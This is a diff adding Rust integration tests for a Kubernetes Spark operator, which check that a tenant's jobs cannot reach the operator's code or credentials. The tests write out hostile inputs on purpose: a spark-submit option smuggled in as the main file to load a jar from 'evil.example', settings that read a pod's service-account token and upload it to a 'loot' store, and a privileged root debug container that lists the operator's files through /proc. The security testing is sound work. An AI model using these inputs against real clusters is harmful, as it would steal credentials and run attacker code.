@@ -1,0 +1,141 @@
+//! What a tenant's application can reach is what the tenant's own pods can reach: no code and no file of it is the operator's.
+
+use super::{
+    install, is_rolled_out, native::python_job, node_address, state_is, submission_pods::JOB, until,
+    web_hdfs::WebHdfs,
+};
+use crate::apiserver::kubectl::{kubectl, kubectl_refuses, kubectl_with};
+use k8s_openapi::ByteString;
+use serde_json::{Value, json};
+
+/// Where each container finds the token of its pod's service account.
+const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+const TENANT: &str = "system:serviceaccount:default:spark";
+
+#[test]
+#[ignore = "needs a node: make test"]
+fn a_main_file_that_is_an_option_of_spark_submit_is_refused() {
+    install();
+    let mut job = python_job("takes-over", "submission-job", JOB);
+    job["metadata"]["annotations"] = json!({"sparkoperator.k8s.io/submitter": "spark-submit"});
+    job["spec"]["mainApplicationFile"] = json!("--master");
+    job["spec"]["arguments"] =
+        json!(["local[1]", "--deploy-mode", "client", "--class", "Evil", "http://evil.example/evil.jar"]);
+    let refused = kubectl_refuses(&job, &["apply", "-f", "-"]);
+    assert!(refused.contains("spec.mainApplicationFile: "), "{refused}");
+
+    let schedule = json!({
+        "apiVersion": "sparkoperator.k8s.io/v1beta2",
+        "kind": "ScheduledSparkApplication",
+        "metadata": {"name": "takes-over", "namespace": "default"},
+        "spec": {"schedule": "@every 1h", "template": job["spec"]},
+    });
+    let refused = kubectl_refuses(&schedule, &["apply", "-f", "-"]);
+    assert!(refused.contains("spec.template.mainApplicationFile: "), "{refused}");
+}
+
+#[test]
+#[ignore = "needs a node: make test"]
+fn code_that_takes_part_in_the_submission_runs_in_a_pod_of_the_tenants() {
+    install();
+    let name = "has-a-step";
+    let mut job = python_job(name, "submission-job", JOB);
+    let step = "org.apache.spark.examples.NotesSubmitter";
+    job["spec"]["sparkConf"] = json!({"spark.kubernetes.driver.pod.featureSteps": step});
+    job["spec"]["driver"]["env"] =
+        json!([{"name": "SPARK_DIST_CLASSPATH", "value": "/opt/spark/examples/jars/spark-examples.jar"}]);
+    kubectl_with(&job, &["apply", "-f", "-"]);
+    state_is(name, "COMPLETED");
+    let driver: Value =
+        serde_json::from_str(&kubectl(&["get", "pod", &format!("{name}-driver"), "--output=json"])).unwrap();
+    let noted = |key: &str| driver["metadata"]["annotations"][key].as_str().unwrap_or_default();
+    let claims: Value = serde_json::from_str(noted("submitted-with")).unwrap();
+    assert_eq!(claims["sub"], TENANT);
+    assert_eq!(claims["kubernetes.io"]["pod"]["name"], noted("submitted-in"), "{claims:#}");
+    assert!(noted("submitted-in").starts_with(&format!("{name}-")), "{claims:#}");
+    assert!(noted("submitted-in").ends_with("-submission"), "{claims:#}");
+    kubectl(&["delete", "sparkapp", name]);
+}
+
+#[test]
+#[ignore = "needs a node: make test"]
+fn a_file_of_the_submitters_that_goes_into_a_config_map_is_one_of_the_tenants() {
+    install();
+    let name = "reads-a-file";
+    let mut job = python_job(name, "submission-job", JOB);
+    job["spec"]["sparkConf"] = json!({"spark.kubernetes.kerberos.krb5.path": TOKEN});
+    kubectl_with(&job, &["apply", "-f", "-"]);
+    let mut subjects = Vec::new();
+    until("the file is in a ConfigMap", || {
+        subjects = subjects_in(&kubectl(&["get", "configmaps", "--output=json"]));
+        !subjects.is_empty()
+    });
+    assert!(subjects.iter().all(|subject| subject == TENANT), "{subjects:?}");
+    kubectl(&["delete", "sparkapp", name]);
+}
+
+#[test]
+#[ignore = "needs a node: make test"]
+fn a_file_of_the_submitters_that_is_uploaded_is_one_of_the_tenants() {
+    install();
+    let store = WebHdfs::start(&node_address());
+    let name = "sends-a-file";
+    let mut job = python_job(name, "submission-job", JOB);
+    job["spec"]["sparkConf"] = json!({
+        "spark.files": format!("file://{TOKEN}"),
+        "spark.kubernetes.file.upload.path": format!("{}/loot", store.url),
+    });
+    kubectl_with(&job, &["apply", "-f", "-"]);
+    until("the file is uploaded", || store.files().contains_key("token"));
+    assert_eq!(subjects_in(&store.files()["token"]), [TENANT]);
+    kubectl(&["delete", "sparkapp", name]);
+}
+
+#[test]
+#[ignore = "needs a node: make test"]
+fn the_operators_image_has_no_java_no_spark_and_no_shell() {
+    install();
+    is_rolled_out();
+    let operators = "--selector=app.kubernetes.io/name=spark-operator";
+    let in_operators = |arguments: &[&str]| kubectl(&[&["-n", "spark-operator"], arguments].concat());
+    let pod = in_operators(&["get", "pods", operators, "--output=jsonpath={.items[0].metadata.name}"]);
+    // A container beside the operator's sees the operator's files through /proc, if it is root's.
+    let beside =
+        ["debug", &pod, "--image=docker.io/library/busybox:stable", "--image-pull-policy=IfNotPresent"];
+    let looks =
+        ["--target=spark-operator", "--container=looks", "--profile=sysadmin", "--custom=/dev/stdin", "--"];
+    let root = json!({"securityContext": {"privileged": true, "runAsNonRoot": false, "runAsUser": 0}});
+    let find = ["find", "/proc/1/root/", "-xdev", "-type", "f"];
+    kubectl_with(&root, &[&["-n", "spark-operator"], &beside[..], &looks, &find].concat());
+    let ended = "--output=jsonpath={.status.ephemeralContainerStatuses[0].state.terminated.exitCode}";
+    until("all files are listed", || !in_operators(&["get", "pod", &pod, ended]).is_empty());
+    let listed = in_operators(&["logs", &pod, "--container=looks"]);
+    let files: Vec<_> = listed.lines().filter_map(|line| line.strip_prefix("/proc/1/root")).collect();
+    assert!(files.contains(&"/usr/bin/spark-operator"), "{listed}");
+    let programs: Vec<_> =
+        files.iter().filter(|path| path.starts_with("/usr/bin/") || path.starts_with("/bin/")).collect();
+    assert_eq!(programs, [&"/usr/bin/spark-operator"]);
+    let is_unwanted =
+        |path: &str| ["java", "jvm", ".jar", "spark-submit"].iter().any(|word| path.contains(word));
+    assert_eq!(files.iter().find(|path| is_unwanted(path)), None);
+    in_operators(&["delete", "pod", &pod]);
+    is_rolled_out();
+}
+
+/// Whose tokens of service accounts are in this text.
+fn subjects_in(text: &str) -> Vec<String> {
+    let is_of_token = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
+    let words = text.split(|c| !is_of_token(c)).filter(|word| word.starts_with("eyJ"));
+    words.filter_map(|word| claims(word.split('.').nth(1)?)).collect()
+}
+
+/// The subject in the middle part of a token.
+fn claims(encoded: &str) -> Option<String> {
+    let mut encoded = encoded.replace('-', "+").replace('_', "/");
+    while !encoded.len().is_multiple_of(4) {
+        encoded.push('=');
+    }
+    let ByteString(claims) = serde_json::from_value(json!(encoded)).ok()?;
+    let claims: Value = serde_json::from_slice(&claims).ok()?;
+    Some(claims["sub"].as_str()?.to_owned())
+}
